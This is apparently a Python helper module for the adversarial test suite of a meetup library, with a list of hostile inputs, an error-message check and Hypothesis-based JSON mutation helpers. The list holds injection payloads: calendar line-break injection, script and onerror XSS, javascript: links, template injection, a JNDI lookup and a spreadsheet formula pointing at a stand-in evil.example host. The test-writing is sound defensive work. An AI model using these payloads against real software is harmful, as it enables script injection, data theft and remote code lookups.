"""Shared pieces of the adversarial suite: hostile values and the error check.

Every test in ``tests/adversarial`` feeds meetupkit input it did not make
and checks the one promise the library gives about failures: only a
:class:`meetupkit.errors.MeetupkitError` escapes, and its message stays
short whatever the input's size.

Run the suite with ``MEETUPKIT_PROFILE=fast`` (seconds), ``ci`` (the
default in ``.ci/run``, about 10 s) or ``long`` (2,000 examples per
property, about 3 minutes) before a release:

    MEETUPKIT_PROFILE=long python -m pytest tests/adversarial
"""

from __future__ import annotations

import importlib
import json
from collections.abc import Callable
from types import ModuleType
from typing import Any

from hypothesis import strategies as st

from meetupkit.errors import MeetupkitError

#: The longest error message meetupkit may produce, whatever the input.
MAX_MESSAGE = 2000

#: Text that tries to escape from the field it is in, in every output
#: format meetupkit writes.
INJECTIONS = (
    "Adelheid\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:gekapert",
    "Raum\nATTENDEE:mailto:spion@example.org",
    "Line\\nEND:VCALENDAR",
    '<script>alert("xss")</script>',
    '<img src=x onerror="alert(1)">',
    "</article><h1>gefälscht</h1>",
    "[klick mich](javascript:alert(1))",
    "javascript:alert(document.cookie)",
    "![bild](https://evil.example/x.png)",
    "{{ 7*7 }} {% for x in range(9) %}x{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    '=HYPERLINK("https://evil.example","klick")',
    "+SUM(1,2)",
    "@import url(evil.css)",
    '"}, "participants": [{"name": "mallory"}], "x": {"',
    "\u202eevil\u202c",
    "# Überschrift\n\n---\n\n* Liste",
)


def check_error(exc: BaseException) -> None:
    """Fail unless *exc* is a meetupkit error with a short message."""
    assert isinstance(exc, MeetupkitError), (
        f"{type(exc).__name__} escaped: {str(exc)[:300]}"
    )
    message = str(exc)
    assert len(message) <= MAX_MESSAGE, f"message of {len(message)} characters"


def call(func: Callable[..., Any], *args: Any, **kwargs: Any) -> Any:
    """Call *func*; return its result, or None after checking its error."""
    try:
        return func(*args, **kwargs)
    except Exception as exc:
        check_error(exc)
        return None


def optional_module(name: str) -> ModuleType | None:
    """Import *name* if it exists yet, else return None."""
    try:
        return importlib.import_module(name)
    except ModuleNotFoundError:
        return None


#: Any JSON value, nested a few levels deep.
json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False)
    | st.text(max_size=30),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(st.text(max_size=12), inner, max_size=5)
    ),
    max_leaves=20,
)


def paths(
    document: Any, prefix: tuple[Any, ...] = ()
) -> list[tuple[Any, ...]]:
    """Return the path of every value inside a JSON-like *document*."""
    found = [prefix]
    if isinstance(document, dict):
        for key, value in document.items():
            found.extend(paths(value, (*prefix, key)))
    elif isinstance(document, list):
        for index, value in enumerate(document):
            found.extend(paths(value, (*prefix, index)))
    return found


def mutate(document: Any, path: tuple[Any, ...], how: str, value: Any) -> Any:
    """Return a copy of *document* changed at *path*.

    *how* is ``replace`` (put *value* there), ``delete`` (remove the key or
    item) or ``add`` (add a key named after *value* to the object there).
    """
    copy = json.loads(json.dumps(document))
    if not path:
        return value if how == "replace" else copy
    parent = copy
    for step in path[:-1]:
        parent = parent[step]
    last = path[-1]
    if how == "replace":
        parent[last] = value
    elif how == "delete":
        del parent[last]
    elif isinstance(parent[last], dict):
        parent[last][str(value)[:20]] = value
    return copy
